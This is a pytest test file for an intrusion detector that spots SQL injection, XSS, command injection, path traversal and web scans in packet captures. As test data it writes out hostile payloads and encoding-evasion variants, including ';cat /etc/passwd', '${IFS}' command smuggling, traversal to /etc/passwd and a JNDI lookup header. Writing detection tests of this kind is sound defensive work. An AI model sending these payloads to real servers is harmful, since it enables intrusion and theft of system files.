from __future__ import annotations

import base64
import random
from itertools import pairwise
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mlids.capture import crafting as c
from mlids.capture.crafting import Frame
from mlids.detectors.web_payload import WebPayload
from mlids.events import Event
from mlids.testing import START_NS, check_detector, packets, run

MS = 1_000_000
SECOND = 1000 * MS
OUT, HOST = "203.0.113.9", "192.168.1.10"
OUT6, HOST6 = "2001:db8:bad::9", "2001:db8:1::10"
AGENT = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36"
)
SQLI = "1' or '1'='1"


def seg(
    at: int,
    src: str,
    dst: str,
    sport: int,
    dport: int,
    text: bytes,
    seq: int = 100,
    ack: int = 500,
    flags: str = "PA",
) -> Frame:
    packet = c.ip(src, dst, 6, c.tcp(sport, dport, flags, seq=seq, ack=ack, payload=text))
    return Frame(START_NS + at, c.ethernet(packet))


def head(target: str, *headers: str, method: str = "GET", agent: str = AGENT) -> bytes:
    lines = [f"{method} {target} HTTP/1.1", "Host: shop.example", f"User-Agent: {agent}"]
    lines += ["Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8"]
    return "\r\n".join([*lines, *headers, "", ""]).encode("latin-1")


def search(value: str, *headers: str) -> bytes:
    return head(f"/search?q={quote(value, safe='')}", *headers)


def exchange(
    at: int,
    request: bytes,
    answer: bytes = b"",
    src: str = OUT,
    dst: str = HOST,
    port: int = 80,
    sport: int = 40000,
) -> list[Frame]:
    """A request, and 20 ms later its answer."""
    frames = [seg(at, src, dst, sport, port, request)]
    if answer:
        ack = 100 + len(request)
        frames.append(seg(at + 20 * MS, dst, src, port, sport, answer, 500, ack))
    return frames


def pieces(
    text: bytes, *cuts: int, at: int = 0, step: int = MS, port: int = 80, sport: int = 40000
) -> list[Frame]:
    """The segments of a request that is cut at these places, in order."""
    bounds = [0, *cuts, len(text)]
    return [
        seg(at + n * step, OUT, HOST, sport, port, text[a:b], 100 + a)
        for n, (a, b) in enumerate(pairwise(bounds))
    ]


def reordered(frames: list[Frame], *order: int) -> list[Frame]:
    """The same frames, sent in another order."""
    times = [frame.time_ns for frame in frames]
    return [Frame(time, frames[n].data) for time, n in zip(times, order, strict=False)]


def later(seconds: float) -> Frame:
    """A packet that only moves time on."""
    frame = c.ethernet(c.arp(1, "10.0.0.1", "10.0.0.2"), 0x0806)
    return Frame(START_NS + int(seconds * SECOND), frame)


def said(frames: list[Frame], restart: bool = True, **options: object) -> list[Event]:
    """Events of WebPayload, which must keep the law."""
    return check_detector(lambda: WebPayload(**options), packets(frames), (1, 3, 7, 50), restart)


def test_an_attack_and_all_that_is_said_of_it() -> None:
    [event] = said(exchange(0, search(SQLI), b"HTTP/1.1 404 Not Found\r\n\r\n"))
    assert (event.type, event.severity, event.source) == ("SQL Injection", "MEDIUM", "application")
    assert event.rule == "web_payload/sqli-tautology"
    assert event.time_ns == START_NS
    assert event.techniques == ["T1190"]
    assert event.evidence == [{"source": "test.pcap", "frame": 1}]
    details = event.details
    assert (details["ip"], details["target"], details["port"]) == (OUT, HOST, 80)
    assert details["protocol"] == "TCP"
    metadata = details["metadata"]
    assert metadata["technique"] == "sqli"
    assert metadata["method"] == "GET"
    assert metadata["path"] == "/search"
    assert metadata["part"] == "value q"
    assert metadata["decoded"] == SQLI
    assert metadata["status"] == 404
    assert "value q holds" in event.explanation


@pytest.mark.parametrize(
    ("value", "type", "technique"),
    [
        ("1 union select 1,2,3--", "SQL Injection", "sqli"),
        ("<script>alert(1)</script>", "XSS", "xss"),
        (";cat /etc/passwd", "Command Injection", "cmdi"),
        ("../../../../etc/passwd", "Path Traversal", "traversal"),
    ],
)
@pytest.mark.parametrize(("src", "dst"), [(OUT, HOST), (OUT6, HOST6)])
def test_each_class(value: str, type: str, technique: str, src: str, dst: str) -> None:
    [event] = said(exchange(0, search(value), b"HTTP/1.1 200 OK\r\n\r\n", src, dst, 31337))
    assert event.type == type
    assert event.severity == "HIGH"
    assert event.details["ip"] == src
    assert event.details["port"] == 31337
    assert event.details["metadata"]["technique"] == technique


@pytest.mark.parametrize(
    ("target", "technique"),
    [
        ("/?q=1%2527%2520or%25201%253D1--", "sqli"),
        ("/?q=1/**/UnIoN/**/aLl/**/sElEcT/**/1,2", "sqli"),
        ("/?q=1%20/*!50000union*/%20/*!select*/%201,2", "sqli"),
        ("/?q=" + base64.b64encode(b"1' or 1=1 union select 1,2").decode(), "sqli"),
        ("/?q=%u0027%20or%201=1--", "sqli"),
        ("/..%c0%af..%c0%af..%c0%afetc/passwd", "traversal"),
        ("/%u002e%u002e/%u002e%u002e/%u002e%u002e/etc/passwd", "traversal"),
        ("/%252e%252e/%252e%252e/etc/passwd", "traversal"),
        ("/?f=..%5c..%5c..%5cboot.ini", "traversal"),
        ("/?q=%253CsCrIpT%253Ealert(1)", "xss"),
        ("/?q=&lt;script&gt;alert(1)&lt;/script&gt;".replace("&", "%26"), "xss"),
        ("/?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)", "xss"),
        ("/?q=\\x3cscript\\x3ealert(1)", "xss"),
        ("/?ip=1%0acat%20/etc/passwd", "cmdi"),
        ("/?ip=;c'a't${IFS}/etc/passwd", "cmdi"),
        ("/?ip=1&&cat%20/etc/passwd", "cmdi"),
    ],
)
def test_encodings(target: str, technique: str) -> None:
    events = said(exchange(0, head(target)))
    assert technique in {
        part
        for event in events
        for part in [
            event.details["metadata"]["technique"],
            *event.details["metadata"].get("also", []),
        ]
    }


@pytest.mark.parametrize(
    ("header", "part"),
    [
        ("Cookie: a=1; sid=1%27%20or%201=1--", "cookie sid"),
        ("Referer: http://x/?q=<script>alert(1)</script>", "referrer q"),
        ("X-Api-Version: ${jndi:ldap://x.example/a}", "header x-api-version"),
    ],
)
def test_headers_are_looked_at(header: str, part: str) -> None:
    [event] = said(exchange(0, head("/", header)))
    assert event.details["metadata"]["part"] == part


@pytest.mark.parametrize(
    "request_",
    [
        search(SQLI, "X-Forwarded-For: 198.51.100.77", "X-Real-IP: 198.51.100.77"),
        search(SQLI, "Forwarded: for=198.51.100.77", "Client-IP: 198.51.100.77"),
        head(f"http://198.51.100.77/?q={quote(SQLI)}", "Via: 1.1 198.51.100.77"),
        search(SQLI + " from 198.51.100.77 -- ", "True-Client-IP: 198.51.100.77"),
        search(SQLI, "Host: 198.51.100.77", "Referer: http://198.51.100.77/"),
    ],
)
def test_no_text_of_the_client_blames_another(request_: bytes) -> None:
    events = said(exchange(0, request_, b"HTTP/1.1 200 OK\r\nX-Client: 198.51.100.77\r\n\r\n"))
    assert events
    assert {event.details["ip"] for event in events} == {OUT}
    assert {event.details["target"] for event in events} == {HOST}


def test_ordinary_browsing_is_silent() -> None:
    targets = [
        "/", "/index.html", "/static/app.4f3a2b.js?v=3", "/products/42?page=2&sort=price",
        "/search?q=O%27Brien", "/search?q=select+a+union", "/search?q=drop+table+tennis",
        "/search?q=rock+%27n%27+roll+and+blues+(live)", "/s?q=%22to+be%22+or+%22not+to+be%22",
        "/login?next=https%3A%2F%2Fapp.example%2Fhome%3Ftab%3D1%26x%3D2",
        "/t?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.abcDEF-_123",
        "/?d=%7B%22name%22%3A%22O%27Reilly+%26+sons%22%2C%22n%22%3A1%7D",
        "/?m=**bold**+and+%60code%60%0A-+one%0A-+two", "/cart;jsessionid=1A2B3C?item=7",
    ]  # fmt: skip
    frames = []
    for n, target in enumerate(targets):
        answer = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html>" + b"x" * 900
        made = head(target, "Cookie: sid=1a2b3c; theme=dark", "Referer: https://shop.example/")
        frames += exchange(n * 50 * MS, made, answer, sport=40000 + n)
    body = b'{"comment": "Hello, it\'s nice -- really; see you & yours <3"}'
    lengths = f"Content-Length: {len(body)}"
    frames += exchange(
        SECOND, head("/api", lengths, method="POST") + body, b"HTTP/1.1 201 Ok\r\n\r\n"
    )
    assert said(frames) == []


def test_what_is_no_http_is_ignored() -> None:
    rng = random.Random(4)
    texts = [
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03' or 1=1--<script>",
        b"SSH-2.0-OpenSSH_9.6 ' or 1=1--\r\n",
        b"\x17\x03\x03" + rng.randbytes(900),
        b"EHLO <script>alert(1)</script>\r\n",
        b"",
    ]
    frames = [seg(n * MS, OUT, HOST, 40000, 443, text) for n, text in enumerate(texts)]
    assert said(frames) == []


@pytest.mark.parametrize(
    ("value", "status", "body", "severity"),
    [
        (SQLI, 200, b"<html>", "HIGH"),
        (SQLI, 302, b"", "MEDIUM"),
        (SQLI, 403, b"", "MEDIUM"),
        (SQLI, 500, b"You have an error in your SQL syntax", "HIGH"),
        (SQLI, 0, b"", "MEDIUM"),
        ("../../../../etc/passwd", 200, b"root:x:0:0:root:/root:/bin/bash\n", "HIGH"),
        ("../../../../etc/passwd", 404, b"not here", "MEDIUM"),
        (";id", 200, b"uid=33(www-data) gid=33(www-data)", "HIGH"),
        ("'true'", 200, b"", "MEDIUM"),  # too unsure
    ],
)
def test_what_the_server_answers(value: str, status: int, body: bytes, severity: str) -> None:
    answer = b"HTTP/1.1 %d X\r\nServer: x\r\n\r\n" % status + body if status else b""
    [event] = said(exchange(0, search(value), answer))
    assert event.severity == severity
    assert event.details["metadata"]["status"] == (status or None)


def test_an_answer_that_comes_too_late_is_none() -> None:
    request_ = search(SQLI)
    late = seg(
        10 * SECOND + MS, HOST, OUT, 80, 40000, b"HTTP/1.1 200 OK\r\n\r\n", 500, 100 + len(request_)
    )
    [event] = said([*exchange(0, request_), late])
    assert event.severity == "MEDIUM"
    assert event.details["metadata"]["status"] is None
    in_time = seg(
        9 * SECOND, HOST, OUT, 80, 40000, b"HTTP/1.1 200 OK\r\n\r\n", 500, 100 + len(request_)
    )
    [event] = said([*exchange(0, request_), in_time])
    assert event.severity == "HIGH"


def test_it_is_told_when_the_time_for_an_answer_is_over() -> None:
    detector = WebPayload()
    assert list(detector.inspect(packets(exchange(0, search(SQLI))))) == []
    assert len(list(detector.inspect(packets([later(10.1)])))) == 1
    assert list(detector.flush()) == []


def test_an_answer_to_an_earlier_request_is_none() -> None:
    first, attack = head("/harmless"), search(SQLI)
    frames = [
        seg(0, OUT, HOST, 40000, 80, first),
        seg(MS, OUT, HOST, 40000, 80, attack, 100 + len(first)),
        seg(2 * MS, HOST, OUT, 80, 40000, b"HTTP/1.1 200 OK\r\n\r\n", 500, 100 + len(first)),
        seg(
            3 * MS, HOST, OUT, 80, 40000, b"HTTP/1.1 403 No\r\n\r\n", 519, 100 + len(first + attack)
        ),
    ]
    [event] = said(frames)
    assert event.details["metadata"]["status"] == 403


def test_pipelined_requests() -> None:
    text = head("/harmless") + search(SQLI) + head("/.") + search("<script>alert(1)</script>")
    end = 100 + len(text)
    frames = [seg(0, OUT, HOST, 40000, 80, text)]
    for n, status in enumerate((200, 404, 200, 500)):
        answer = b"HTTP/1.1 %d X\r\n\r\n" % status
        frames.append(seg((n + 1) * MS, HOST, OUT, 80, 40000, answer, 500 + n * 20, end))
    events = said(frames)
    assert {(e.type, e.details["metadata"]["status"]) for e in events} == {
        ("SQL Injection", 404),
        ("XSS", 500),
    }


def test_each_request_is_one_event() -> None:
    frames = [
        frame
        for n in range(120)
        for frame in exchange(n * 30 * MS, search(SQLI), b"HTTP/1.1 404 X\r\n\r\n", sport=40000 + n)
    ]
    events = said(frames)
    assert len(events) == 120
    assert len({event.correlation_id for event in events}) == 120
    assert {event.evidence[0]["frame"] for event in events} == set(range(1, 241, 2))


@pytest.mark.parametrize("cut", [3, 6, 20, 26, 60])
@pytest.mark.parametrize("port", [80, 31337])
def test_a_head_split_in_two(cut: int, port: int) -> None:
    text = search("1' union select 1,2")
    if port != 80 and cut < 4:
        return  # such beginnings are known on ports of web servers only
    [event] = said(pieces(text, cut, port=port))
    assert event.type == "SQL Injection"
    assert [place["frame"] for place in event.evidence] == [1, 2]
    assert event.time_ns == START_NS


def test_neither_part_of_a_split_attack_shows_it_alone() -> None:
    text = search("1' union select 1,2")
    cut = text.index(b"ion%20sel")
    first, second = pieces(text, cut)
    assert said([Frame(first.time_ns, first.data)]) == []
    assert said([Frame(second.time_ns, second.data)]) == []
    assert len(said([first, second])) == 1


def test_a_head_in_many_pieces_in_any_order() -> None:
    text = search("1' union select 1,2")
    whole = pieces(text, 12, 24, 33, 50)
    orders = [(0, 2, 1, 3, 4), (0, 4, 3, 2, 1), (1, 0, 2, 3, 4), (4, 3, 2, 1, 0), (2, 0, 4, 1, 3)]
    for order in orders:
        events = said(reordered(whole, *order))
        assert [event.type for event in events] == ["SQL Injection"], order
    single = pieces(text, *range(1, len(text)))
    assert [event.type for event in said(single)] == ["SQL Injection"]


def test_what_is_sent_again_is_one_event() -> None:
    text = search(SQLI)
    frames = [seg(n * 300 * MS, OUT, HOST, 40000, 80, text) for n in range(4)]
    assert len(said(frames)) == 1
    first, second = pieces(text, 30)
    again = [Frame(first.time_ns + 5 * MS, first.data), Frame(second.time_ns + 5 * MS, second.data)]
    assert len(said([first, second, *again])) == 1
    assert len(said([first, *again])) == 1
    answered = exchange(0, text, b"HTTP/1.1 200 OK\r\n\r\n")
    assert len(said([*answered, seg(SECOND, OUT, HOST, 40000, 80, text)])) == 1


def test_a_body_in_a_segment_of_its_own() -> None:
    body = b"name=x&comment=%3Cscript%3Ealert(1)%3C/script%3E"
    for expect in ((), ("Expect: 100-continue",)):
        text = head("/post", f"Content-Length: {len(body)}", *expect, method="POST")
        frames = [seg(0, OUT, HOST, 40000, 80, text)]
        if expect:
            go_on = b"HTTP/1.1 100 Continue\r\n\r\n"
            frames.append(seg(MS, HOST, OUT, 80, 40000, go_on, 500, 100 + len(text)))
        frames.append(seg(2 * MS, OUT, HOST, 40000, 80, body, 100 + len(text)))
        done = 100 + len(text + body)
        frames.append(seg(3 * MS, HOST, OUT, 80, 40000, b"HTTP/1.1 200 OK\r\n\r\n", 525, done))
        [event] = said(frames)
        assert (event.type, event.severity) == ("XSS", "HIGH")
        assert event.details["metadata"]["part"] == "body comment"


def test_a_long_first_segment_without_push() -> None:
    text = head("/x", "Cookie: a=" + "b" * 1100 + "%27%20or%201=1--" + "c" * 300)
    first = seg(0, OUT, HOST, 40000, 80, text[:1460], flags="A")
    [event] = said([first, seg(MS, OUT, HOST, 40000, 80, text[1460:], 1560)])
    assert event.details["metadata"]["part"] == "cookie a"
    assert len(said([first])) == 1


def test_heads_cut_off_by_the_capture() -> None:
    whole = seg(0, OUT, HOST, 40000, 80, search(SQLI) + b"x" * 400)
    cut = Frame(whole.time_ns, whole.data[:256], len(whole.data))
    [event] = said([cut])
    assert event.details["metadata"]["decoded"] == SQLI
    before = Frame(whole.time_ns, whole.data[:75], len(whole.data))
    assert said([before]) == []


def test_scanners_are_told_by_the_volume_law() -> None:
    frames = []
    for n in range(100):
        request_ = head(f"/page/{n}", agent="Mozilla/5.00 (Nikto/2.5.0)")
        frames += exchange(n * 50 * MS, request_, b"HTTP/1.1 404 X\r\n\r\n", sport=40000 + n)
    events = said(frames)
    assert {event.type for event in events} == {"Web Scan"}
    assert [event.details["metadata"]["triggers"] for event in events] == [1, 10, 100]
    assert sum(1 + event.details["suppressed"] for event in events) == 100
    assert len({event.correlation_id for event in events}) == 1
    assert events[0].severity == "MEDIUM"
    assert events[0].source == "application"
    assert events[0].details["ip"] == OUT
    assert "T1595.002" in events[0].techniques


def test_scanners_of_two_sources_are_two() -> None:
    frames = exchange(0, head("/.env")) + exchange(MS, head("/.git/config"), src="203.0.113.50")
    assert {event.details["ip"] for event in said(frames)} == {OUT, "203.0.113.50"}


def test_a_login_page_is_a_probe_where_there_is_none() -> None:
    request_ = head("/wp-login.php")
    assert said(exchange(0, request_, b"HTTP/1.1 200 OK\r\n\r\n")) == []
    assert said(exchange(0, request_)) == []
    [event] = said(exchange(0, request_, b"HTTP/1.1 404 Not Found\r\n\r\n"))
    assert event.type == "Web Scan"


def test_an_attack_of_a_known_scanner_is_both() -> None:
    frames = exchange(0, head(f"/?q={quote(SQLI)}", agent="sqlmap/1.8#stable"))
    events = said(frames)
    assert sorted(event.type for event in events) == ["SQL Injection", "Web Scan"]
    [attack] = [event for event in events if event.type == "SQL Injection"]
    assert attack.details["metadata"]["also"] == ["scan"]


@pytest.mark.parametrize(
    "options",
    [
        {"exclude_ips": [OUT]},
        {"exclude_ips": [HOST]},
        {"ignore_sources": ["203.0.113.0/24"]},
        {"ignore_targets": ["192.168.0.0/16"]},
        {"min_confidence": 0.99},
    ],
)
def test_lists_and_limits(options: dict[str, object]) -> None:
    frames = exchange(0, search(SQLI), b"HTTP/1.1 200 OK\r\n\r\n")
    assert said(frames, **options) == []
    assert len(said(frames, ignore_sources=[HOST], ignore_targets=[OUT])) == 1


def test_hostile_bytes() -> None:
    rng = random.Random(6)
    frames = []
    for n in range(300):
        text = rng.choice([b"GET /", b"POST ", b"HTTP/1.1 ", b"GE", b"PUT /?"]) + rng.randbytes(
            rng.randrange(200)
        )
        whole = seg(n * MS, OUT, HOST, 40000 + n % 9, 80, text, seq=rng.randrange(1 << 32))
        cut = rng.randrange(len(whole.data) + 1)
        frames.append(Frame(whole.time_ns, whole.data[:cut], len(whole.data)))
    said(frames)
    long = b"GET /?q=" + b"%27%20or%20" * 120 + b"\x00\xff" * 30
    assert all("\x00" not in str(event) for event in said(exchange(0, long)))
    run(WebPayload(), [packets([])])


def test_text_of_the_client_is_shown_safely_and_cut() -> None:
    target = "/" + "a" * 900 + "\x1b[31m?q=" + quote(SQLI)
    [event] = said(exchange(0, head(target, "Host: " + "h" * 400 + "\x07")))
    metadata = event.details["metadata"]
    assert len(metadata["path"]) <= 200
    assert len(metadata["host"]) <= 200
    assert "\x1b" not in str(event)
    assert "\x07" not in str(event)


def test_room_is_bounded() -> None:
    options = {"max_heads": 16, "max_waiting": 16}
    frames = []
    for n in range(200):
        text = search(SQLI)
        frames.append(seg(n * MS, OUT, HOST, 20000 + n, 80, text[:40]))
        frames.append(seg(n * MS, OUT, HOST, 30000 + n, 80, b"of what came before"))
        frames.append(seg(n * MS, OUT, HOST, 40000 + n, 80, text))
    detector = WebPayload(**options)
    events = run(detector, [packets(frames)])
    assert len(events) == 400  # nothing is lost: it is only told earlier
    counts = detector.counts()
    assert counts["evicted_heads"] == 2 * 184
    assert counts["evicted_waiting"] > 200
    assert len(said(frames, **options)) == 400


def random_traffic(rng: random.Random) -> list[Frame]:
    values = [SQLI, "<svg/onload=alert(1)>", "tea", ";id", "../../../etc/passwd", "O'Brien"]
    frames, at = [], 0
    for _ in range(rng.randrange(3, 25)):
        at += rng.choice([0, MS, 900 * MS, 4 * SECOND, 11 * SECOND])
        sport, seq = 40000 + rng.randrange(4), 100 + 1000 * rng.randrange(3)
        port = 31337 if sport % 2 else 80
        text = search(rng.choice(values)) if rng.random() < 0.7 else head("/.env")
        if rng.random() < 0.2:
            text = head("/", "Content-Length: 20", method="POST") + b"q=<script>alert(1)//"
        cuts = sorted(rng.sample(range(1, len(text)), rng.randrange(3)))
        bounds = list(zip([0, *cuts], [*cuts, len(text)], strict=True))
        if rng.random() < 0.4:
            rng.shuffle(bounds)
        for a, b in bounds:
            if rng.random() < 0.9:
                frames.append(seg(at, OUT, HOST, sport, port, text[a:b], seq + a))
            at += rng.choice([0, MS, 200 * MS])
        if rng.random() < 0.6:
            status = rng.choice([b"200", b"404", b"100"])
            answer = b"HTTP/1.1 " + status + b" X\r\n\r\n"
            frames.append(seg(at, HOST, OUT, port, sport, answer, 500, seq + len(text)))
    return frames


@given(st.integers(0, 10**9))
@settings(max_examples=60, deadline=None)
def test_the_law_on_random_traffic(seed: int) -> None:
    frames = random_traffic(random.Random(seed))
    batch = packets(frames)
    for options in ({}, {"max_heads": 16, "max_waiting": 16}):
        check_detector(lambda options=options: WebPayload(**options), batch, (2, 5, len(frames)))
